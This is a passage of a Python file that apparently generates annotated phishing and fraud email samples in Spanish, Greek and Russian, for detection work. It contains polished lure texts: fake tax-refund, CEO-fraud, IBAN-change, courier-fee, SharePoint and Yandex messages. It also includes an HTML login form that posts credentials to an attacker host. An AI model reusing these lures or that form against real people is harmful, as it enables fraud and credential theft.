"""Attack messages 27-31 (Spanish), 32-36 (Greek), 37-40 (Russian)."""
from common import *

F = "attack"


# -------------------------------------------------------------- Spanish

def a27():
    t = T("2026-11-09 09:31:44")
    frm = ("Agencia Tributaria", "notificaciones@agenciatributaria-avisos.es")
    url = "https://sede.agenciatributaria.gob.es.devoluciones-aeat.com/Sede/procedimientoini/G229.shtml?ref=" + b64u(BANK["example_es_cif"])
    cif = BANK["example_es_cif"]
    text = """AGENCIA TRIBUTARIA

Aviso de puesta a disposición de notificación

Titular: EXAMPLE GROUP IBERIA S.L. (NIF %s)
Procedimiento: Devolución – Modelo 303, 3T 2026
Importe a devolver: 3.842,17 €

Se ha detectado una incidencia en la cuenta bancaria designada para la devolución. Para evitar la paralización del procedimiento, verifique el IBAN accediendo a la Sede Electrónica con Cl@ve o certificado electrónico antes del 20/11/2026:

%s

Transcurrido dicho plazo sin atender el requerimiento, la devolución quedará anulada y deberá iniciarse un nuevo procedimiento.

Este mensaje se ha generado automáticamente. Por favor, no responda.
""" % (cif, url)
    inner = ("<p><b>Aviso de puesta a disposición de notificación</b></p>"
             "<p>Titular: EXAMPLE GROUP IBERIA S.L. (NIF %s)<br>Procedimiento: Devolución – Modelo 303, 3T 2026<br>"
             "Importe a devolver: <b>3.842,17 €</b></p>"
             "<p>Se ha detectado una incidencia en la cuenta bancaria designada para la devolución. Para evitar la paralización del "
             "procedimiento, verifique el IBAN accediendo a la Sede Electrónica con Cl@ve o certificado electrónico antes del <b>20/11/2026</b>.</p>" % cif
             + button(url, "Acceder a la Sede Electrónica", "#8b1d2c") +
             "<p>Transcurrido dicho plazo sin atender el requerimiento, la devolución quedará anulada.</p>")
    html = phish_html("Agencia Tributaria – Sede Electrónica", "#8b1d2c", inner, "Este mensaje se ha generado automáticamente. Por favor, no responda.", lang="es")
    return mk(F, 27, "es", "aeat-refund-phish-ses",
              infra=P(I.ses, region="eu-west-3"), frm=frm, to=[S("es_acc")],
              subject="Aviso de notificación: incidencia en su devolución del Modelo 303 (3T 2026)", t=t, bstyle="java",
              body=lambda k: alt(k, text, html, "UTF-8", "quoted-printable"),
              tags=["credential phishing", "national tax office impersonation", "abused ESP (Amazon SES)"],
              what="'Agencia Tributaria' claims a problem with the bank account for a VAT refund of EUR 3,842.17 and links to a fake Sede Electrónica (Cl@ve) login.",
              why="Registrable domain of the link is devoluciones-aeat.com (gob.es only as a subdomain label); sender look-alike via Amazon SES; real AEAT/DEHú notices never link to a login to 'verify the IBAN'.",
              pair="business 27")


def a28():
    t = T("2026-12-02 12:06:50")
    frm = ("Javier Muñoz", "javier.munoz@examplegroup.es")
    text = """Lucía, ¿estás en la oficina?

Te escribo rápido porque estoy reunido en Madrid con los abogados y no puedo hablar por teléfono. Estamos cerrando, de forma confidencial, un acuerdo marco con un nuevo cliente farmacéutico y hoy hay que abonar una provisión de fondos al despacho que lleva la operación. Jürgen ya está al tanto y ha dado el visto bueno, pero de momento no lo comentes con nadie más.

Importe: 26.400,00 €
Beneficiario: Valdés & Asociados Abogados S.L.P.
IBAN: %s
Concepto: Provisión de fondos – expte. 2026/418

¿Puedes prepararla como transferencia inmediata y mandarme el justificante en cuanto salga? Luego te lo explico todo con calma.

Gracias,
Javier
""" % G(BANK["mule_es_chk"])
    return mk(F, 28, "es", "manager-fraud-lookalike-domain",
              infra=P(I.vps, helo="mail.examplegroup.es", ip="141.94.77.18", rdns="ns3211873.ip-141-94-77.eu", mode="roundcube",
                      origin_ip="89.187.180.51"),
              frm=frm, to=[S("es_acc")], subject="Urgente – confidencial", t=t, hcs="ISO-8859-1", hmode="Q",
              body=lambda k: Text(text, "plain", "ISO-8859-1", "quoted-printable", params="; format=flowed"),
              tags=["CEO / manager fraud (BEC)", "fake lawyer", "look-alike domain on VPS"],
              what="'Javier Muñoz' (Valencia office manager) asks the accountant for an immediate, confidential EUR 26,400 transfer to a law firm's account.",
              why="Look-alike domain examplegroup.es (company uses .com/.eu) on an OVH server; secrecy, name-dropping the CEO, unreachable by phone, instant transfer to a new payee.",
              pair="business 28")


def a29():
    t = T("2026-10-22 18:47:02")
    frm = ("Correos", "notificaciones@panaderialamorena.es")
    url = "https://correos-aduanas-envios.com/es/pago/?envio=CE918736421ES"
    text = """Estimado cliente:

Su envío CE918736421ES procedente de Alemania se encuentra retenido en la aduana de Madrid-Barajas a la espera del pago de los gastos de gestión aduanera (2,99 €).

Para liberar el envío y programar la entrega, realice el pago en las próximas 48 horas:
%s

Si no se recibe el pago, el envío será devuelto al remitente.

Atentamente,
Correos – Gestión Aduanera
""" % url
    inner = ("<p>Estimado cliente:</p><p>Su envío <b>CE918736421ES</b> procedente de Alemania se encuentra retenido en la aduana de "
             "Madrid-Barajas a la espera del pago de los gastos de gestión aduanera (<b>2,99 €</b>).</p>"
             "<p>Para liberar el envío y programar la entrega, realice el pago en las próximas 48 horas.</p>"
             + button(url, "Pagar y programar entrega", "#ffcd00").replace("color:#ffffff", "color:#002f6c") +
             "<p>Si no se recibe el pago, el envío será devuelto al remitente.</p><p>Atentamente,<br>Correos – Gestión Aduanera</p>")
    html = phish_html("Correos", "#002f6c", inner, "Sociedad Estatal Correos y Telégrafos, S.A., S.M.E.", charset="windows-1252", lang="es")
    return mk(F, 29, "es", "customs-fee-phish-compromised",
              infra=P(I.hosted, provider="plesk", origin_ip="103.75.201.4", host="vps-4f12a.plesk-eu.net", ip="82.223.14.96",
                      mailer="PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)", style="generic"),
              frm=frm, to=[S("es_mgr")], subject="Su envío CE918736421ES está retenido en aduana", t=t,
              hcs="windows-1252", hmode="Q", bstyle="php",
              body=lambda k: alt(k, text, html, "windows-1252", "quoted-printable"),
              tags=["card phishing", "courier / customs impersonation", "compromised small-business mailbox"],
              what="'Correos' says a parcel from Germany is held in customs pending a EUR 2.99 fee, with a payment link.",
              why="Customs-fee card phishing; From is a hacked bakery's mailbox on a Plesk server, link to correos-aduanas-envios.com; intra-EU parcels from Germany incur no customs fees.")


def a30():
    t = T("2026-11-27 16:22:18")
    frm = ("Tesorería Laboratorios Albufera", "tesoreria@laboratorios-albufera.es")
    rc = S("es_acc")[1]
    page = """<!DOCTYPE html>
<html lang="es"><head><meta charset="utf-8"><title>Justificante de transferencia</title>
<style>body{margin:0;background:#eef1f5;font-family:"Segoe UI",Arial,sans-serif}
.card{width:420px;margin:70px auto;background:#fff;padding:38px;border-radius:4px;box-shadow:0 2px 8px rgba(0,0,0,.15)}
input{width:100%;padding:9px;margin:8px 0;border:1px solid #bbb;font-size:14px;box-sizing:border-box}
button{width:100%;background:#0067b8;color:#fff;border:0;padding:10px;font-size:15px}</style></head>
<body><div class="card">
<p style="font-size:13px;color:#666">Documento protegido &middot; Justificante_ALB-PAG-2026-1187.pdf (214 KB)</p>
<h2 style="font-weight:600">Inicie sesión para ver el documento</h2>
<p style="font-size:13px">Este justificante se ha compartido con su cuenta de Microsoft 365. Confirme su identidad para continuar.</p>
<form method="post" action="https://albufera-docs.sbs/auth/verify.php">
<input type="email" name="u" value="{EMAIL}">
<input type="password" name="p" placeholder="Contraseña">
<button type="submit">Ver documento</button>
</form></div></body></html>
""".replace("{EMAIL}", rc)
    text = """Buenas tardes:

Adjuntamos el justificante de la transferencia realizada hoy en concepto de pago de sus facturas 2026/VLC/0391 y 2026/VLC/0402 (traducción de documentación de registro EMA).

Referencia de pago: ALB-PAG-2026-1187
Importe: 11.927,35 €

Por motivos de confidencialidad, el documento está protegido; ábralo en su navegador e inicie sesión con su cuenta corporativa para visualizarlo.

Un saludo,

Departamento de Tesorería
Laboratorios Albufera S.L.
Av. de les Corts Valencianes 58, 46015 Valencia
"""
    return mk(F, 30, "es", "remittance-html-attachment-lookalike",
              infra=P(I.vps, helo="mail.laboratorios-albufera.es", ip="5.75.168.221", rdns="static.221.168.75.5.clients.your-server.de",
                      mode="smtp_client", origin_ip="37.120.217.85"),
              frm=frm, to=[S("es_acc")], subject="Aviso de pago – Transferencia ALB-PAG-2026-1187", t=t, hcs="iso-8859-15", hmode="Q",
              body=lambda k: Multi("mixed", [alt(k, text, html_outlook(text, "iso-8859-15", "ES"), "iso-8859-15", quote_cs=True),
                                             HTMLA("Justificante_transferencia_ALB-PAG-2026-1187.html", page, "HTML credential form posting to albufera-docs.sbs, no script")],
                                   k.bd(), preamble="This is a multipart message in MIME format."),
              tags=["credential phishing", "HTML attachment", "look-alike domain on VPS", "fake payment remittance"],
              what="'Payment remittance' from the customer's treasury; the attached HTML 'receipt' is a Microsoft 365 login form posting to albufera-docs.sbs.",
              why="Look-alike domain laboratorios-albufera.es (real: laboratoriosalbufera.es) on a Hetzner VPS; remittance needing a password; credentials posted to an attacker host.",
              pair="business 30")


def a31():
    t = T("2026-10-30 17:58:40")
    frm = ("Daniel Ferrer Sáez", "danielferrer.asesoria@outlook.es")
    proof = pdf([[(13, True, "Barclays Bank UK PLC"), "International Payment Confirmation", "",
                  "Date: 29/10/2026", "Reference: INTL-2910-88471-GB", "Ordering customer: D. FERRER SAEZ",
                  "Beneficiary: EXAMPLE GROUP IBERIA S.L.", "Beneficiary IBAN: " + G(BANK["example_es"]),
                  (11, True, "Amount: EUR 4,850.00"), "Charges: OUR", "Status: Processed – value date 02/11/2026"]],
                title="Payment confirmation", creator="Microsoft Word", producer="Microsoft: Print To PDF", date=pdfdate(t))
    prev = "<a1c93e7d5b2f4e60b8d1f0a9c7e6b5d4@EXCH01.ad.example.com>"
    text = """Buenas tardes, Javier:

Tal como le comenté, mi asesor en Londres ya ha realizado la transferencia del anticipo para la traducción jurada de los documentos de la herencia (testamento, certificado de defunción y declaración de herederos). Por desgracia, su asistente cometió un error y ha transferido 4.850,00 € en lugar de los 485,00 € acordados. Le adjunto el justificante del banco.

Le ruego que, en cuanto reciba el importe, me devuelva la diferencia de 4.365,00 € a la cuenta de mi gestor en Portugal, ya que mis cuentas en España están bloqueadas hasta que concluya la partición de la herencia:

Titular: Mendes & Fonseca Gestão Lda.
IBAN: %s
BIC: CGDIPTPL

Necesito los fondos con cierta urgencia para pagar los gastos notariales antes del viernes. Mil disculpas por las molestias y gracias por su comprensión.

Un cordial saludo,
Daniel Ferrer Sáez
""" % G(BANK["mule_es_overpay"])
    return mk(F, 31, "es", "overpayment-refund-scam-sworn-translation",
              infra=P(I.m365, org="outlook.es", consumer=True, lang="es-ES"),
              frm=frm, to=[S("es_mgr")], subject="RE: Presupuesto traducción jurada – documentos de herencia (EN>ES)", t=t,
              irt=prev, refs=prev,
              body=lambda k: Multi("mixed", [alt(k, text, html_outlook(text, "utf-8", "ES"), "utf-8", quote_cs=True),
                                             PDF("Justificante_transferencia_Barclays.pdf", proof, fn_style="plain")], k.bd()),
              tags=["overpayment / refund scam", "trade-specific lure", "free mailer", "fake payment proof"],
              what="Private 'client' of a sworn translation claims his adviser overpaid EUR 4,850 instead of 485 and asks for EUR 4,365 to be refunded to a third party's Portuguese account.",
              why="Classic overpayment fraud aimed at translation agencies: fake bank confirmation PDF, refund to an unrelated third-party account abroad before the incoming payment clears, urgency; sender on outlook.es.")


# ---------------------------------------------------------------- Greek

def a32():
    t = T("2026-11-18 10:12:33", "EET")
    frm = ("ΑΑΔΕ – myAADE", "enimerosi@myaade-gov.gr")
    afm = BANK["example_gr_afm"]
    url = "https://myaade.gov.gr-epistrofes.info/taxisnet/login?afm=" + afm
    text = """Αγαπητέ/ή φορολογούμενε,

Από τη διασταύρωση των στοιχείων που έχουν διαβιβαστεί στην πλατφόρμα myDATA προκύπτει ότι η επιχείρησή σας (ΑΦΜ %s) δικαιούται επιστροφή ΦΠΑ ύψους 2.317,40 € για το Γ΄ τρίμηνο 2026.

Για την ολοκλήρωση της επιστροφής απαιτείται επιβεβαίωση του λογαριασμού IBAN της επιχείρησης με τους προσωπικούς κωδικούς TAXISnet έως τις 25/11/2026. Μετά την παρέλευση της προθεσμίας το αίτημα αρχειοθετείται.

Σύνδεση στο myAADE:
%s

Με εκτίμηση,
Ανεξάρτητη Αρχή Δημοσίων Εσόδων
""" % (afm, url)
    inner = ("<p>Αγαπητέ/ή φορολογούμενε,</p><p>Από τη διασταύρωση των στοιχείων που έχουν διαβιβαστεί στην πλατφόρμα <b>myDATA</b> "
             "προκύπτει ότι η επιχείρησή σας (ΑΦΜ %s) δικαιούται επιστροφή ΦΠΑ ύψους <b>2.317,40 €</b> για το Γ΄ τρίμηνο 2026.</p>"
             "<p>Για την ολοκλήρωση της επιστροφής απαιτείται επιβεβαίωση του λογαριασμού IBAN της επιχείρησης με τους προσωπικούς "
             "κωδικούς TAXISnet έως τις <b>25/11/2026</b>.</p>" % afm + button(url, "Σύνδεση στο myAADE", "#003476") +
             "<p>Με εκτίμηση,<br>Ανεξάρτητη Αρχή Δημοσίων Εσόδων</p>")
    html = phish_html("ΑΑΔΕ – myAADE", "#003476", inner, "Μην απαντάτε σε αυτό το μήνυμα.", lang="el")
    return mk(F, 32, "el", "aade-vat-refund-phish-mailgun",
              infra=P(I.mailgun, mg_domain="mg.myaade-gov.gr"), frm=frm, to=[S("gr_acc")],
              subject="myAADE: Εκκρεμεί επιστροφή ΦΠΑ – απαιτείται επιβεβαίωση IBAN", t=t, zone="UTC", bstyle="hex",
              body=lambda k: alt(k, text, html, "utf-8"),
              tags=["credential phishing", "national tax office impersonation", "abused ESP (Mailgun)"],
              what="'AADE/myAADE' promises a VAT refund of EUR 2,317.40 if the TAXISnet credentials are used to 'confirm the IBAN'.",
              why="Tax-refund phishing: link domain gr-epistrofes.info behind a gov.gr-looking prefix, look-alike sender via Mailgun, deadline; AADE does not request TAXISnet logins by e-mail.")


def a33():
    t = T("2026-11-26 15:40:27", "EET")
    frm = ("Γιάννης Δημητρίου", "g.dimitriou@syntech-conferences.gr")
    iban = BANK["mule_gr_syntech"]
    letter = pdf([[(14, True, "SYNTECH CONFERENCE SYSTEMS M.E.P.E."), "Leoforos Georgikis Scholis 65, 570 01 Thessaloniki",
                   "AFM " + BANK["syntech_afm"], "", "Pros: Example Group Hellas", "", "Thessaloniki, 25/11/2026", "",
                   (11, True, "Thema: Allagi trapezikou logariasmou"), "",
                   "Sas enimeronoume oti apo 01/12/2026 oi pliromes pros tin etaireia mas tha ginontai apokleistika ston logariasmo:",
                   "Dikaiouchos: SYNTECH CONFERENCE SYSTEMS M.E.P.E.", "Trapeza: Eurobank", "IBAN: " + G(iban), "",
                   "O proigoumenos logariasmos stin Trapeza Peiraios kleinei.", "", "Me ektimisi", "O Diacheiristis", "Christos Syrigos"]],
                 title="Allagi IBAN", creator="Microsoft Word", producer="Microsoft: Print To PDF", date=pdfdate(t, "+02'00'"))
    text = """Καλησπέρα σας κα Γεωργίου,

Σας ενημερώνουμε ότι, λόγω μεταφοράς της συνεργασίας μας από την Τράπεζα Πειραιώς στη Eurobank, από την 1η Δεκεμβρίου 2026 οι πληρωμές προς την εταιρεία μας θα γίνονται αποκλειστικά στον παρακάτω λογαριασμό:

Δικαιούχος: SYNTECH CONFERENCE SYSTEMS Μ.Ε.Π.Ε.
Τράπεζα: Eurobank
IBAN: %s

Παρακαλούμε να ενημερώσετε τα στοιχεία μας και να εξοφλήσετε στον νέο λογαριασμό το τιμολόγιο ΤΠΥ 2026/0418 (ενοικίαση καμπινών διερμηνείας και ασύρματου συστήματος για το συνέδριο του Νοεμβρίου, 6.820,00 €), το οποίο είναι ήδη ληξιπρόθεσμο. Επισυνάπτουμε τη σχετική επιστολή υπογεγραμμένη από τον διαχειριστή.

Επειδή το λογιστήριο μεταφέρεται σε νέα γραφεία, τα σταθερά μας τηλέφωνα δεν θα λειτουργούν έως τις 4/12. Για οποιαδήποτε διευκρίνιση απαντήστε σε αυτό το email.

Με εκτίμηση,

Γιάννης Δημητρίου
Τμήμα Πωλήσεων
Syntech Conference Systems Μ.Ε.Π.Ε.
""" % G(iban)
    return mk(F, 33, "el", "supplier-iban-change-lookalike",
              infra=P(I.vps, helo="mail.syntech-conferences.gr", ip="185.229.226.41", rdns="vps41.hostinger-server.eu", mode="smtp_client",
                      origin_ip="79.110.62.9", zone="EET"),
              frm=frm, to=[S("gr_acc")], cc=[S("gr_mgr")], subject="Αλλαγή τραπεζικού λογαριασμού – Syntech Conference Systems", t=t,
              zone="EET", hcs="windows-1253", hmode="B",
              body=lambda k: Multi("mixed", [alt(k, text, html_outlook(text, "windows-1253", "EL"), "windows-1253", quote_cs=True),
                                             PDF("Epistoli_allagis_IBAN_Syntech.pdf", letter, fn_style="plain")], k.bd(),
                                   preamble="This is a multipart message in MIME format."),
              tags=["supplier bank-detail change (BEC)", "look-alike domain on VPS", "forged PDF letter"],
              what="Interpreting-equipment supplier 'changes bank' and asks to pay an overdue EUR 6,820 booth-rental invoice to a new Eurobank IBAN.",
              why="Look-alike syntech-conferences.gr (real: syntech-conference.gr) on a VPS; phones 'out of order' so no call-back possible; pressure on a specific overdue invoice.",
              pair="business 32")


def a34():
    t = T("2026-10-16 19:23:05", "EET")
    frm = ("ACS Courier", "info@kafeteria-ambrosia.gr")
    url = "https://acs-paradosi.com/gr/track/?awb=7284910365"
    text = """Αγαπητέ πελάτη,

Η αποστολή σας με αριθμό 7284910365 δεν ήταν δυνατό να παραδοθεί σήμερα λόγω ελλιπούς διεύθυνσης και ανεξόφλητων τελών φύλαξης (1,89 €).

Για να προγραμματίσετε νέα παράδοση, επιβεβαιώστε τα στοιχεία σας και εξοφλήστε το ποσό εντός 48 ωρών:
%s

Διαφορετικά η αποστολή θα επιστραφεί στον αποστολέα.

ACS Courier
""" % url
    inner = ("<p>Αγαπητέ πελάτη,</p><p>Η αποστολή σας με αριθμό <b>7284910365</b> δεν ήταν δυνατό να παραδοθεί σήμερα λόγω ελλιπούς "
             "διεύθυνσης και ανεξόφλητων τελών φύλαξης (<b>1,89 €</b>).</p><p>Για να προγραμματίσετε νέα παράδοση, επιβεβαιώστε τα στοιχεία "
             "σας και εξοφλήστε το ποσό εντός 48 ωρών.</p>" + button(url, "Προγραμματισμός παράδοσης", "#e2001a") +
             "<p>Διαφορετικά η αποστολή θα επιστραφεί στον αποστολέα.</p>")
    html = phish_html("ACS Courier", "#e2001a", inner, "ACS Courier – Ταχυμεταφορές", charset="iso-8859-7", lang="el")
    return mk(F, 34, "el", "courier-fee-phish-compromised",
              infra=P(I.hosted, provider="cpanel", origin_ip="146.70.113.20", host="gr-web07.cloudhost-hellas.gr", ip="185.138.42.117",
                      mailer="PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)", style="generic", zone="EET"),
              frm=frm, to=[S("gr_mgr")], subject="ACS: Η αποστολή 7284910365 δεν παραδόθηκε – εκκρεμεί χρέωση 1,89 €", t=t, zone="EET",
              hcs="iso-8859-7", hmode="Q", bstyle="php",
              body=lambda k: alt(k, text, html, "iso-8859-7", "quoted-printable"),
              tags=["card phishing", "courier / customs impersonation", "compromised small-business mailbox"],
              what="'ACS Courier' failed-delivery notice asking for a EUR 1.89 storage fee via a payment link.",
              why="Courier-fee card phishing sent from a hacked café's cPanel mailbox via PHPMailer; link to acs-paradosi.com, not acscourier.net.",
              pair="business 36")


def a35():
    t = T("2026-12-04 11:02:48", "EET")
    frm = ("Κώστας Καρράς", "info@logistiko-karras.gr")
    url = "https://karras-docs-share.pages.dev/sp/?id=Ekk-FPA-Okt2026&u=" + b64u(S("gr_acc")[1])
    text = """Ο Κώστας Καρράς σάς κοινοποίησε ένα αρχείο

Εκκαθάριση_ΦΠΑ_Οκτ2026.pdf

Σας στέλνω την εκκαθάριση ΦΠΑ Οκτωβρίου για έλεγχο πριν την υποβολή. Παρακαλώ επιβεβαιώστε έως σήμερα το απόγευμα.

Άνοιγμα: %s

Αυτός ο σύνδεσμος λειτουργεί μόνο για τους παραλήπτες αυτού του μηνύματος.
Microsoft SharePoint
""" % url
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:'Segoe UI',Arial,sans-serif;background:#fff">
<table width="520" cellpadding="0" cellspacing="0" style="border:1px solid #e1e1e1"><tr><td style="padding:26px">
<div style="font-size:13px;color:#038387;font-weight:600">SharePoint</div>
<div style="font-size:21px;color:#333;margin:14px 0">Ο Κώστας Καρράς σάς κοινοποίησε ένα αρχείο</div>
<div style="border:1px solid #e1e1e1;padding:12px;margin:12px 0;font-size:14px">&#128196; <b>Εκκαθάριση_ΦΠΑ_Οκτ2026.pdf</b></div>
<div style="font-size:14px;color:#333">«Σας στέλνω την εκκαθάριση ΦΠΑ Οκτωβρίου για έλεγχο πριν την υποβολή. Παρακαλώ επιβεβαιώστε έως σήμερα το απόγευμα.»</div>
<p><a href="{URL}" style="display:inline-block;background:#0078d4;color:#fff;text-decoration:none;padding:9px 22px;font-size:14px">Άνοιγμα</a></p>
<div style="font-size:11px;color:#777">Αυτός ο σύνδεσμος λειτουργεί μόνο για τους παραλήπτες αυτού του μηνύματος.</div>
<div style="font-size:11px;color:#777;margin-top:18px">Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</div>
</td></tr></table></body></html>
""".replace("{URL}", url)
    return mk(F, 35, "el", "sharepoint-share-lure-compromised-accountant",
              infra=P(I.hosted, provider="plesk", origin_ip="23.94.52.161", host="plesk3.greekhosting-cloud.gr", ip="62.38.141.77",
                      style="generic", zone="EET"),
              frm=frm, to=[S("gr_acc")], subject="Ο Κώστας Καρράς σάς κοινοποίησε το αρχείο «Εκκαθάριση_ΦΠΑ_Οκτ2026.pdf»", t=t, zone="EET",
              bstyle="roundcube",
              body=lambda k: alt(k, text, html, "UTF-8", "quoted-printable"),
              tags=["credential phishing", "brand / service impersonation", "abused genuine service", "compromised small-business mailbox"],
              what="Fake SharePoint 'file shared with you' (October VAT settlement) from a hacked Greek accounting office mailbox; button leads to a Cloudflare Pages site.",
              why="Mimics a SharePoint notification but is not sent by SharePoint; link host pages.dev (free Cloudflare hosting) with the victim's address encoded; hacked small-business account (login from a US VPS), same-day urgency.")


def a36():
    t = T("2026-12-10 10:27:14", "EET")
    frm = ("Νίκος Παπαδόπουλος", "nikos.papadopoulos.exg@gmail.com")
    text = """Ελένη καλημέρα,

Είμαι σε σύσκεψη με τους δικηγόρους για την υπόθεση διαιτησίας της Nautilus και δεν μπορώ να μιλήσω στο τηλέφωνο. Χρειάζομαι να γίνει σήμερα μία μεταφορά 38.600 € ως εγγύηση προς τη δικηγορική εταιρεία που χειρίζεται τη διαιτησία στο Λονδίνο. Ο κ. Köhler είναι ενήμερος.

Δικαιούχος: Harrington & Webb Legal Services
IBAN: %s
BIC: REVOLT21
Αιτιολογία: Security deposit – case 2026/ARB/117

Μην το συζητήσεις ακόμη με κανέναν στο γραφείο, θα σου εξηγήσω αύριο. Στείλε μου το αποδεικτικό εδώ μόλις γίνει.

Ευχαριστώ,
Νίκος

Στάλθηκε από το iPhone μου
""" % G(BANK["mule_gr_ceo"])
    return mk(F, 36, "el", "manager-fraud-gmail-fake-lawyer",
              infra=P(I.gmail), frm=frm, to=[S("gr_acc")], subject="Επείγον – μεταφορά σήμερα", t=t, zone="EET",
              body=lambda k: alt(k, text, html_gmail(text), "UTF-8", "base64"),
              tags=["CEO / manager fraud (BEC)", "fake lawyer", "staff impersonation via free mailer"],
              what="'Nikos Papadopoulos' (Thessaloniki manager) on Gmail asks the accountant for a same-day EUR 38,600 'security deposit' to a London law firm's Lithuanian EMI account.",
              why="Display-name impersonation from an unknown Gmail address, secrecy, unreachable by phone, CEO name-drop, foreign EMI account unrelated to the named law firm.",
              pair="business 35")


# -------------------------------------------------------------- Russian

def a37():
    t = T("2026-11-12 10:14:55", "MSK")
    frm = ("Межрайонная ИФНС России № 26 по Санкт-Петербургу", "info@stroykomplekt-spb.ru")
    inner = "Требование_ФНС_14-27_18834.pdf.scr"
    z = make_zip([(inner, placeholder("Trebovanie_FNS_14-27_18834.pdf.scr"), (2026, 11, 12, 9, 48, 6))], password="18834", seed="a37")
    text = """Уважаемый налогоплательщик!

Межрайонная ИФНС России № 26 по Санкт-Петербургу в соответствии со статьями 31, 88 и 93 Налогового кодекса Российской Федерации направляет требование о представлении пояснений и документов в связи с выявленными расхождениями в налоговой декларации по НДС за III квартал 2026 года.

Пояснения необходимо представить в течение 5 рабочих дней со дня получения требования. Непредставление пояснений влечёт ответственность по статье 129.1 НК РФ.

Требование и перечень истребуемых документов — во вложении. В целях защиты персональных данных архив защищён паролем: 18834

С уважением,
отдел камеральных налоговых проверок
Межрайонная ИФНС России № 26 по Санкт-Петербургу
"""
    return mk(F, 37, "ru", "tax-demand-encrypted-zip-compromised",
              infra=P(I.hosted, provider="cpanel", origin_ip="80.94.95.218", host="srv45.hostland-spb.ru", ip="91.201.53.45",
                      mailer="Microsoft Outlook 16.0", zone="MSK", style="outlook_classic"),
              frm=frm, to=[S("ru_acc")], subject="Требование о представлении пояснений № 14-27/18834", t=t, zone="MSK",
              hcs="windows-1251", hmode="B",
              body=lambda k: Multi("mixed", [Text(text, "plain", "windows-1251", "base64", quote_cs=True),
                                             ZIP("Требование_14-27_18834.zip", z,
                                                 "ZIP, ZipCrypto, password '18834' in body; UTF-8 member name %s (one-line placeholder)" % inner,
                                                 pwd="18834", fn_style="2047B", fn_charset="windows-1251")], k.bd(),
                                   preamble="This is a multipart message in MIME format."),
              tags=["malware lure", "national tax office impersonation", "password-protected ZIP (ZipCrypto)", "double extension", "compromised small-business mailbox"],
              what="'Tax inspectorate' demand for explanations on the Q3 VAT return with a password-protected ZIP holding a .pdf.scr.",
              why="FNS sends demands through the electronic reporting operator (TKS), never as e-mail archives; hacked construction firm's mailbox; encrypted archive with screensaver executable disguised as PDF.")


def a38():
    t = T("2026-10-19 23:08:31", "MSK")
    frm = ("Яндекс ID", "noreply@id-yandex-security.ru")
    url = "https://passport.yandex-id-security.ru/auth/restore?retpath=id.yandex.ru&u=" + b64u("example-group-spb")
    text = """Здравствуйте, Дмитрий!

В ваш аккаунт example-group-spb выполнен вход с нового устройства.

Устройство: Windows 10, браузер Chrome
Место: Новосибирск, Россия
IP-адрес: 91.144.171.22
Время: 19.10.2026, 23:01 (МСК)

Если это были вы, ничего делать не нужно.
Если это были не вы, срочно смените пароль и завершите все сеансы:
%s

С уважением,
команда Яндекс ID
""" % url
    inner = ("<p>Здравствуйте, Дмитрий!</p><p>В ваш аккаунт <b>example-group-spb</b> выполнен вход с нового устройства.</p>"
             "<table cellpadding='3' style='font-size:14px'><tr><td>Устройство:</td><td>Windows 10, браузер Chrome</td></tr>"
             "<tr><td>Место:</td><td>Новосибирск, Россия</td></tr><tr><td>IP-адрес:</td><td>91.144.171.22</td></tr>"
             "<tr><td>Время:</td><td>19.10.2026, 23:01 (МСК)</td></tr></table>"
             "<p>Если это были вы, ничего делать не нужно. Если это были не вы, срочно смените пароль и завершите все сеансы.</p>"
             + button(url, "Сменить пароль", "#fc3f1d") + "<p>С уважением,<br>команда Яндекс ID</p>")
    html = phish_html("Яндекс ID", "#000000", inner, "© 2026 ООО «Яндекс»", lang="ru")
    return mk(F, 38, "ru", "yandex-id-signin-phish",
              infra=P(I.vps, helo="mail.id-yandex-security.ru", ip="194.87.31.205", rdns="vm1318025.firstbyte.club", mode="php", zone="MSK"),
              frm=frm, to=[S("ru_mgr")], subject="Вход в аккаунт с нового устройства", t=t, zone="MSK",
              body=lambda k: alt(k, text, html, "utf-8", "quoted-printable"),
              tags=["credential phishing", "brand / service impersonation", "look-alike domain on VPS"],
              what="Fake 'new sign-in' alert from 'Yandex ID' with a 'change password' button to a look-alike passport page.",
              why="Sender domain id-yandex-security.ru on a cheap VPS (PHPMailer), link to yandex-id-security.ru; genuine Yandex ID alerts come from id.yandex.ru via Yandex forward servers.",
              pair="business 37")


def a39():
    t = T("2026-11-06 14:25:10", "MSK")
    frm = ("ООО «Невская типография» – бухгалтерия", "buh@nevskaya-tip.com")
    B = BANK
    letter = pdf([[(13, True, "OOO «Nevskaya tipografiya»"), "INN %s  KPP %s  OGRN %s" % (B["nevskaya_inn"], B["nevskaya_kpp"], B["nevskaya_ogrn"]),
                   "196084, Sankt-Peterburg, ul. Zastavskaya, d. 22", "", "Iskh. No. 311 ot 05.11.2026", "",
                   (11, True, "Uvedomlenie ob izmenenii bankovskikh rekvizitov"), "",
                   "V svyazi s zakrytiem raschyotnogo scheta v PAO Sberbank s 09.11.2026 prosim proizvodit oplatu po novym rekvizitam:",
                   "r/s " + B["mule_ru_rs"], "AO «TBank», g. Moskva", "k/s " + B["mule_ru_ks"], "BIK " + B["mule_ru_bik"], "",
                   "Platezhi na prezhniy schet prinimatsya ne budut.", "", "General'nyy direktor  ______________  S. V. Orlov"]],
                 title="Uvedomlenie", creator="Microsoft Word", producer="Microsoft: Print To PDF", date=pdfdate(t, "+03'00'"))
    text = """Добрый день!

Уведомляем вас об изменении банковских реквизитов ООО «Невская типография» с 09.11.2026 в связи с закрытием расчётного счёта в ПАО Сбербанк.

Просим оплату по счетам № 1184 от 23.10.2026 и № 1192 от 30.10.2026 (печать и переплёт заверенных переводов, всего 86 450,00 руб.) произвести по новым реквизитам:

Получатель: ООО «Невская типография»
ИНН %s / КПП %s
р/с %s
Банк: АО «ТБанк», г. Москва
к/с %s
БИК %s

Письмо за подписью генерального директора во вложении. Оплата на прежний счёт после 09.11 не будет зачислена. Просим подтвердить получение ответным письмом.

С уважением,
Бухгалтерия ООО «Невская типография»
""" % (B["nevskaya_inn"], B["nevskaya_kpp"], B["mule_ru_rs"], B["mule_ru_ks"], B["mule_ru_bik"])
    return mk(F, 39, "ru", "supplier-bank-details-change-lookalike",
              infra=P(I.vps, helo="mail.nevskaya-tip.com", ip="109.120.143.77", rdns=None, mode="exim", origin_ip="46.17.106.12",
                      mailer="Microsoft Outlook 16.0", zone="MSK"),
